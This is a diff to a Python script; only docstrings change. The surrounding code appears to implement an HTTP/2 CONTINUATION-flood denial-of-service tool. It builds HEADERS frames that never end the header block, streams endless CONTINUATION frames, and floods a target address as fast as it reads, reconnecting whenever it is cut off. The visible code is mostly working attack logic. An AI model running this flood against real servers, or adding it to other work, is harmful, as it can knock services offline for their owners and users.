@@ -21,7 +21,7 @@ def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
 
 
 def literal(value: bytes, name: bytes = b"x") -> bytes:
-    """Return a header of HPACK that enters no table."""
+    """Return an HPACK header that enters no table."""
     size, length = len(value), b""
     if size >= 127:
         size, length = size - 127, b"\x7f"
@@ -37,7 +37,7 @@ def head(path: bytes = CHECK, more: bytes = b"") -> bytes:
 
 
 def endless(payload: bytes, times: int) -> Iterator[bytes]:
-    """Begin a header block, and never end it."""
+    """Begin a header block without ever ending it."""
     yield frame(1, 0, 1)
     yield from repeat(frame(9, 0, 1, payload) * times)
 
@@ -82,7 +82,7 @@ KINDS: dict[str, Callable[[], Iterator[bytes]]] = {
 
 
 def flood(address: tuple[str, int], kind: str, end: float, sent: list[int]) -> None:
-    """Send as fast as the server reads; connect again if it ends the connection. Note the bytes."""
+    """Send as fast as the server reads; reconnect if it ends the connection. Record the bytes sent."""
     while time.monotonic() < end:
         with socket.create_connection(address) as connection:
             connection.settimeout(1.0)
